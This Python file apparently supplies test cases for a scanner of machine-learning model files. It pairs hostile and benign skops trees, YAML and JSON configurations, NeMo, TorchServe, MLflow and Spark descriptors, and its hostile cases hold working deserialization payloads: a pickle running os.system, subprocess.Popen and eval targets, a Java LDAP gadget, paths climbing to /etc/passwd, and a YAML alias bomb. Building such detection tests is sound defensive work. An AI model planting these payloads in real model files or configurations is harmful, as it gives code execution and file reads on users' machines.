"""Configurations, node trees and descriptions of models that name what their loaders call."""

from __future__ import annotations

import io
import json
import pickle
import tarfile
import zipfile
from typing import TYPE_CHECKING, Any, Final

from corpora.case import Case, Expectation, Technique

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    Node = dict[str, Any]  # JSON

COMMAND: Final = "touch telamon-canary"
PAYLOAD: Final = b"cos\nsystem\n(S'touch telamon-canary'\ntR."
MEMBER: Final = "6f1a5c1e-0d6b-4c6a-9f57-2b1d8c3e4f50.bin"


def zipped(members: Mapping[str, bytes | str]) -> bytes:
    """Return a zip of members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in members.items():
            file.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()


def tarred(members: Mapping[str, bytes], mode: str = "w:gz") -> bytes:
    """Return a tar of members, packed or not."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as file:  # type: ignore[call-overload]  # a mode among several
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            file.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def node(module: str, name: str, loader: str, **more: object) -> Node:
    """Return a node of a skops tree."""
    return {"__module__": module, "__class__": name, "__loader__": loader, **more}


def value(content: object) -> Node:
    """Return a node that is a plain value."""
    return node("builtins", type(content).__name__, "JsonNode", content=json.dumps(content), is_json=True)


def several(*nodes: Node) -> Node:
    """Return a node that is a tuple."""
    return node("builtins", "tuple", "TupleNode", content=list(nodes))


def skops(tree: Node, protocol: object = 2, **members: bytes) -> bytes:
    """Return a skops file."""
    schema = {**tree, "protocol": protocol, "_skops_version": "0.16.0"}
    return zipped({"schema.json": json.dumps(schema), **members})


SYSTEM: Final = node("os", "system", "FunctionNode")
ESTIMATOR: Final = node("sklearn.linear_model._base", "LinearRegression", "ObjectNode")
POPEN: Final = node("subprocess", "Popen", "ObjectNode")
ITEMS: Final = node("builtins", "dict", "DictNode", content={}, key_types=several())
# Name: a hostile tree, and the same construction without the payload.
TREES: Final[dict[str, tuple[Node, Node]]] = {
    "function": (SYSTEM, node("numpy", "log1p", "FunctionNode")),
    "type": (node("posix", "system", "TypeNode"), node("builtins", "int", "TypeNode")),
    "constructor": (
        node("os", "system", "ConstructorFromReduceNode", content=several(value(COMMAND))),
        node("datetime", "timedelta", "ConstructorFromReduceNode", content=several(value(1))),
    ),
    "object": (POPEN, ESTIMATOR),
    "operator (CVE-2025-54412)": (
        node("operator", "call", "OperatorFuncNode", attrs=several(SYSTEM, value(COMMAND))),
        node("operator", "itemgetter", "OperatorFuncNode", attrs=several(value(1))),
    ),
    "operator-that-is-none (CVE-2025-54412)": (
        node("builtins", "call", "OperatorFuncNode", attrs=several(value(COMMAND))),
        node("operator", "attrgetter", "OperatorFuncNode", attrs=several(value("coef_"))),
    ),
    "operator-with-a-hidden-attribute": (
        node("operator", "attrgetter", "OperatorFuncNode", attrs=several(value("__class__.__base__"))),
        node("operator", "attrgetter", "OperatorFuncNode", attrs=several(value("a.b"))),
    ),
    "methodcaller": (
        node("operator", "methodcaller", "OperatorFuncNode", attrs=several(value("__getattribute__"), value("x"))),
        node("operator", "itemgetter", "OperatorFuncNode", attrs=several(value(2))),
    ),
    "method-of-another (CVE-2025-54413)": (
        node("builtins", "int", "MethodNode", content={"obj": POPEN, "func": "communicate"}),
        node(
            "sklearn.linear_model._base",
            "LinearRegression",
            "MethodNode",
            content={"obj": ESTIMATOR, "func": "predict"},
        ),
    ),
    "method-that-is-hidden": (
        node(
            "sklearn.linear_model._base",
            "LinearRegression",
            "MethodNode",
            content={"obj": ESTIMATOR, "func": "__reduce__"},
        ),
        node("sklearn.linear_model._base", "LinearRegression", "MethodNode", content={"obj": ESTIMATOR, "func": "fit"}),
    ),
    "partial": (
        node(
            "functools",
            "partial",
            "PartialNode",
            content={"func": SYSTEM, "args": several(value(COMMAND)), "kwds": ITEMS, "namespace": ITEMS},
        ),
        node(
            "functools",
            "partial",
            "PartialNode",
            content={
                "func": node("numpy", "clip", "FunctionNode"),
                "args": several(),
                "kwds": ITEMS,
                "namespace": ITEMS,
            },
        ),
    ),
    "container-that-is-none": (
        node("os", "system", "ListNode", content=[value(COMMAND)]),
        node("builtins", "list", "ListNode", content=[value(COMMAND)]),
    ),
    "mapping-that-is-none": (
        node("subprocess", "Popen", "DictNode", content={}, key_types=several()),
        node("collections", "OrderedDict", "DictNode", content={}, key_types=several()),
    ),
    "tuple-that-is-none": (
        node("subprocess", "Popen", "TupleNode", content=[value(COMMAND)]),
        several(value(COMMAND)),
    ),
    "loss-that-is-none": (
        node("os", "system", "LossNode", __reduce__={"args": several(value(COMMAND))}, content=ITEMS),
        node(
            "sklearn._loss._loss", "CyPinballLoss", "LossNode", __reduce__={"args": several(value(0.5))}, content=ITEMS
        ),
    ),
    "array-that-is-none": (
        node("builtins", "eval", "NdArrayNode", type="json", content=[value("1")], shape=several(value(1))),
        node("numpy", "ndarray", "NdArrayNode", type="json", content=[value("1")], shape=several(value(1))),
    ),
    "slice-that-is-none": (
        node("os", "system", "SliceNode", content={}),
        node("builtins", "slice", "SliceNode", content={}),
    ),
    "value-that-is-none": (
        node("os", "system", "JsonNode", content="1"),
        value(1),
    ),
    "bit-generator": (
        node(
            "numpy.random._generator",
            "Generator",
            "RandomGeneratorNode",
            content={
                "bit_generator": node(
                    "builtins", "dict", "DictNode", content={"bit_generator": value("seed")}, key_types=several()
                ),
                "seed_seq": ITEMS,
            },
        ),
        node(
            "numpy.random._generator",
            "Generator",
            "RandomGeneratorNode",
            content={
                "bit_generator": node(
                    "builtins", "dict", "DictNode", content={"bit_generator": value("PCG64")}, key_types=several()
                ),
                "seed_seq": ITEMS,
            },
        ),
    ),
    "number-of-another": (
        several({**ESTIMATOR, "__id__": 1}, {**node("numpy", "ndarray", "NdArrayNode", type="numpy"), "__id__": 1}),
        several({**ESTIMATOR, "__id__": 1}, {**ESTIMATOR, "__id__": 2}),
    ),
    "deep": (several(several(several(several(SYSTEM)))), several(several(several(several(value(1)))))),
}
CONFIGURATIONS: Final = {
    "torchtune": (
        f"model: {{_component_: os.system, command: '{COMMAND}'}}",
        "model: {_component_: torchtune.models.x}",
    ),
    "lightning": (
        "model:\n  class_path: subprocess.Popen\n  init_args: {args: id}",
        "model:\n  class_path: lightning.pytorch.demos.BoringModel\n  init_args: {x: 1}",
    ),
    "interpolated": (
        "a: os\nb: system\nm: {_target_: '${a}.${b}'}",
        "a: torch.nn\nb: ReLU\nm: {_target_: '${a}.${b}'}",
    ),
    "interpolated-place": (
        "n: {f: [builtins.eval]}\nm:\n  _target_: ${n.f.0}",
        "n: {f: [builtins.dict]}\nm:\n  _target_: ${n.f.0}",
    ),
    "merged-path": (
        "b: &b {path: os.system}\nm:\n  <<: *b\n  _target_: hydra.utils.get_object",
        "b: &b {path: torch.nn.ReLU}\nm:\n  <<: *b\n  _target_: hydra.utils.get_object",
    ),
    "unpickled": ("_target_: torch.load\nf: other.pt", "_target_: torch.zeros\nsize: 3"),
    "fetched": ("_target_: torch.hub.load\nrepo_or_dir: someone/else", "_target_: torch.nn.Identity"),
    "through-a-library": ("_target_: torch.os.system\ncommand: x", "_target_: torch.device\ntype: cpu"),
    "bare-name": ("_target_: eval", "_target_: dict"),
    "with-a-colon": ("_target_: os:system", "_target_: collections:OrderedDict"),
    "hyperpyyaml-apply": (f"x: !apply:os.system ['{COMMAND}']", "x: !apply:torch.manual_seed [1]"),
    "hyperpyyaml-new": (
        "x: !new:subprocess.Popen\n  args: id",
        "x: !new:speechbrain.nnet.linear.Linear\n  n_neurons: 3\n",
    ),
    "hyperpyyaml-name": ("x: !name:os.system", "x: !name:torch.nn.functional.relu"),
    "hyperpyyaml-include": ("x: !include:../../secrets.yaml", "x: !include:other.yaml"),
    "behind-much-else": (
        "# a comment\n" * 1000 + f"x: !!python/object/apply:os.system ['{COMMAND}']",
        "# a comment\n" * 1000 + "x: !!python/tuple [1]",
    ),
    "ruby": (
        "- !ruby/object:Gem::Installer\n  i: x\n- !ruby/object:Gem::SpecFetcher\n  i: y",
        "--- !ruby/object:Gem::Specification\nname: x\nversion: !ruby/object:Gem::Version\n  version: '1'",
    ),
    "php": ("x: !php/object 'O:1:\"A\":0:{}'", "x: !php/const A"),
    "perl": ("x: !!perl/code 'sub { 1 }'", "x: !!map {a: 1}"),
    "java (CVE-2022-1471)": (
        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://example.invalid/x', autoCommit: true}",
        "!!omap [a: 1]",
    ),
    "aliases-that-unfold": (
        "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}' if n else 'x'] * 9)}]" for n in range(9)),
        "\n".join(f"a{n}: &a{n} [{f'*a{n - 1}' if n else 'x'}]" for n in range(9)),
    ),
}
UNNAMED: Final = {"behind-much-else": "settings"}
OBJECTS: Final = {
    "target-in-json": ({"model": {"_target_": "os.system"}}, {"model": {"_target_": "torch.nn.Linear"}}),
    "jsonpickle-reduce": (
        {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]},
        {"py/reduce": [{"py/type": "collections.OrderedDict"}, {"py/tuple": []}]},
    ),
    "jsonpickle-object": ({"py/object": "subprocess.Popen"}, {"py/object": "datetime.timedelta"}),
    "jsonpickle-evaluated": ({"py/repr": "os/os.system('x')"}, {"py/tuple": [1]}),
}
MLMODEL: Final = (
    "flavors:\n  python_function:\n    loader_module: {}\n    {}\n  sklearn: {{pickled_model: {}}}\n"
    "mlflow_version: 2.0\n"
)
MANIFEST: Final[dict[str, Any]] = {
    "runtime": "python",
    "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py"},
}


def cases() -> Iterator[Case]:
    """Yield trees of skops, configurations in YAML and JSON, descriptions, and the archives around them."""
    for name, (hostile, ordinary) in TREES.items():
        yield _case(f"skops: {name}", skops(hostile), skops(ordinary), "model.skops")
    yield from _other_skops()
    for name, (text, twin) in CONFIGURATIONS.items():
        yield _case(f"configuration: {name}", text.encode(), twin.encode(), UNNAMED.get(name, "config.yaml"))
    for name, (hostile_object, ordinary_object) in OBJECTS.items():
        hostile_text, twin_text = json.dumps(hostile_object).encode(), json.dumps(ordinary_object).encode()
        yield _case(f"configuration: {name}", hostile_text, twin_text, "config.json")
    yield from _archives()


def _other_skops() -> Iterator[Case]:
    old = node("a", "b", "FunctionNode", content={"module_path": "os", "function": "system"})
    new = node("a", "b", "FunctionNode", content={"module_path": "numpy", "function": "exp"})
    yield _case("skops: function of protocol 0", skops(old, 0), skops(new, 0), "model.skops")
    plain = several(value(1))
    bytes_node = node("builtins", "bytes", "BytesNode", file=MEMBER)
    hidden, shown = skops(bytes_node, **{MEMBER: PAYLOAD}), skops(bytes_node, **{MEMBER: b"\x01\x02raw"})
    yield _case("skops: pickle among bytes", hidden, shown, "model.skops")
    hostile = pickle.dumps({"a": 1}) + PAYLOAD
    yield _case("skops: a pickle after all (CVE-2025-54886)", hostile, skops(plain), "model.skops")
    escaped = json.dumps({**SYSTEM, "protocol": 2}).replace("__loader__", "__lo\\u0061der__")
    yield _case("skops: escaped key", zipped({"schema.json": escaped}), skops(plain), "model.skops")
    marked = b"\xef\xbb\xbf" + json.dumps({**SYSTEM, "protocol": 2}).encode()
    yield _case("skops: byte order mark", zipped({"schema.json": marked}), skops(plain), "model.skops")
    twice = zipped({"schema.json": json.dumps({**SYSTEM, "protocol": 2}), "config.json": "{}", "metadata.json": "{}"})
    yield _case("skops: Keras archive as well", twice, None, "model.keras")
    for name, tree, protocol in (
        ("unknown loader", node("x", "y", "EvalNode"), 2),
        ("unknown protocol", plain, 99),
        ("no protocol", plain, True),
        ("key twice", plain, 2),
    ):
        data = skops(tree, protocol)
        if name == "key twice":
            text = json.dumps({**plain, "protocol": 2})
            data = zipped({"schema.json": f'{{"__loader__": "EvalNode", {text[1:]}'})
        yield Case(
            name=f"skops: {name}",
            technique=Technique.STRUCTURED,
            data=data,
            expectation=Expectation.REFUSED,
            file_name="model.skops",
        )


def _archives() -> Iterator[Case]:
    target = b"trainer: {callbacks: [{_target_: builtins.exec, _args_: ['1']}]}\n"
    twin = b"target: nemo.collections.asr.models.EncDecCTCModel\n"
    for mode in ("w", "w:gz"):
        hostile, ordinary = tarred({"./model_config.yaml": target}, mode), tarred({"./model_config.yaml": twin}, mode)
        yield _case(f"nemo: target in a {mode[2:] or 'plain'} tar (CVE-2025-23304)", hostile, ordinary, "model.nemo")
    weights = {"./model_config.yaml": twin, "./model_weights.ckpt": PAYLOAD}
    yield _case("nemo: weights", tarred(weights), tarred({"./model_config.yaml": twin}), "model.nemo")
    for name, change in {
        "handler that climbs": {"handler": "../../evil.py"},
        "handler at a root": {"handler": "/tmp/evil.py"},  # noqa: S108  # a path that nobody opens
        "serialized file that climbs": {"serializedFile": "../../../etc/passwd"},
        "handler that is a command": {"handler": "os:system"},
    }.items():
        manifest = {**MANIFEST, "model": {**MANIFEST["model"], **change}}
        hostile, ordinary = (_served(each) for each in (manifest, MANIFEST))
        yield _case(f"torchserve: {name}", hostile, ordinary, "model.mar")
    extra: dict[str, bytes | str] = {"MAR-INF/MANIFEST.json": json.dumps(MANIFEST), "model.pt": PAYLOAD}
    yield _case("torchserve: weights", zipped(extra), None, "model.mar")
    plain = MLMODEL.format("mlflow.sklearn", "model_path: model.pkl", "model.pkl").encode()
    for name, arguments in {
        "data outside": ("mlflow.sklearn", "data: ../../secret", "model.pkl"),
        "model outside": ("mlflow.sklearn", "model_path: /etc/passwd", "model.pkl"),
        "pickle outside": ("mlflow.sklearn", "data: x", "../other/model.pkl"),
        "pickle elsewhere": ("mlflow.sklearn", "data: x", "https://example.invalid/model.pkl"),
    }.items():
        yield _case(f"mlflow: {name}", MLMODEL.format(*arguments).encode(), plain, "MLmodel")
    for name, data, file_name in (
        ("mlflow: loader of strangers", MLMODEL.format("evil.loader", "data: x", "x").encode(), "MLmodel"),
        ("mlflow: pickle module of strangers", b"evil.pickle\n", "pickle_module_info.txt"),
        ("bentoml: module of strangers", b"name: m\nmodule: evil.loader\nbentoml_version: 1.4\n", "model.yaml"),
        ("spark: class of strangers", b'{"class":"evil.Stage","sparkVersion":"3.5.0"}\n', "part-00000"),
        (
            "torchserve: handler of strangers",
            json.dumps({"model": {"modelName": "m", "handler": "evil"}}).encode(),
            "MANIFEST.json",
        ),
    ):
        expectation = Expectation.REFUSED
        yield Case(name=name, technique=Technique.STRUCTURED, data=data, expectation=expectation, file_name=file_name)
    spark = b'{"class":"%b","timestamp":1,"sparkVersion":"3.5.0","uid":"x","paramMap":{}}\n'
    yield _case(
        "spark: a function", spark % b"subprocess.Popen", spark % b"org.apache.spark.ml.PipelineModel", "part-00000"
    )


def _served(manifest: dict[str, Any]) -> bytes:
    return zipped({"MAR-INF/MANIFEST.json": json.dumps(manifest), "handler.py": "x = 1\n"})


def _case(name: str, data: bytes, twin: bytes | None, file_name: str) -> Case:
    return Case(
        name=name,
        technique=Technique.STRUCTURED,
        data=data,
        expectation=Expectation.FLAGGED,
        twin=twin,
        file_name=file_name,
    )
